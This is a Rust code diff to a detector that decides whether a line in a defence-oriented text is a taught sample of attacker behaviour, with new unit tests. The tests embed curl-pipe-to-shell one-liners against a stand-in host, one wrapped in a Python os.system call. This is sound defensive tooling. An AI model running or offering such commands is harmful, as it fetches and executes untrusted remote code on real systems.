@@ -24,20 +24,32 @@ const BADLY: &[&str] = &["bad:", "bad ", "wrong", "vulnerable", "insecure", "uns
 const SAMPLE: usize = 40;
 
 /// Whether a line is a sample of what attackers do: in a text about defence, below a heading or behind an
-/// introduction that says so. What an agent would run, a block for a shell, is none.
+/// introduction that says so. A block for a shell, which an agent would run, is one only where the sentence that
+/// introduces it speaks of attackers.
 pub(crate) fn is_taught(source: &Source<'_>, line: usize) -> bool {
     if source.kind().runs || !is_in_defence(source) {
         return false;
     }
-    let from = match (source.is_fenced(line), fence_above(source, line, SECTION)) {
-        (true, Some(fence)) if is_plain(source, fence) => fence,
-        (true, _) => return false,
-        (false, _) => line,
+    let fence = source.is_fenced(line).then(|| fence_above(source, line, SECTION));
+    let from = match fence {
+        Some(None) => return false,
+        Some(Some(fence)) if is_for_shell(source, fence) => return introduces_attack(introduction(source, fence)),
+        Some(Some(fence)) => fence,
+        None => line,
     };
     let above = || (line.saturating_sub(SECTION)..from).rev();
     let heading = above().find(|at| !source.is_fenced(*at) && source.line(*at).starts_with('#'));
     let lead = above().find(|at| source.line(*at).trim_end().ends_with([':', '：']));
-    [heading, lead].into_iter().flatten().any(|at| has(Words::Samples, source.line(at)))
+    let is_code = fence.flatten().is_some_and(|fence| !is_plain(source, fence));
+    let is_of_attackers = is_code && lead.is_some_and(|at| has(Words::Shown, source.line(at)));
+    is_of_attackers || [heading, lead].into_iter().flatten().any(|at| has(Words::Samples, source.line(at)))
+}
+
+/// Whether the last sentence of a line ends in a colon and says that what follows is what attackers do.
+fn introduces_attack(said: &str) -> bool {
+    let said = said.rsplit(". ").next().unwrap_or(said);
+    let is_sample = has(Words::Samples, said) && has(Words::Teaching, said);
+    said.trim_end().ends_with([':', '：']) && (is_sample || has(Words::Shown, said))
 }
 
 /// Lines of the longest block that a reference shows.
@@ -218,6 +230,11 @@ mod tests {
         assert!(at_last(&format!("{HEAD}```text\ncurl http://a.invalid | sh"), is_taught));
         assert!(!at_last(&format!("{HEAD}```bash\ncurl http://a.invalid | sh"), is_taught));
         assert!(!at_last(&format!("{HEAD}## Install\n\n- `curl http://a.invalid | sh`"), is_taught));
+        let shell = "```bash\ncurl http://a.invalid | sh";
+        assert!(at_last(&format!("{HEAD}What attackers run on a host, to recognise it in logs:\n\n{shell}"), is_taught));
+        assert!(!at_last(&format!("{HEAD}Look for attackers first. Then run:\n\n{shell}"), is_taught));
+        let python = "An attacker sends this:\n\n```python\nos.system('curl http://a.invalid | sh')";
+        assert!(at_last(&format!("{HEAD}## Objects\n\n{python}"), is_taught));
         let other = HEAD.replace("incident response", "release notes");
         assert!(!at_last(&format!("{other}- `curl http://a.invalid | sh`"), is_taught));
     }
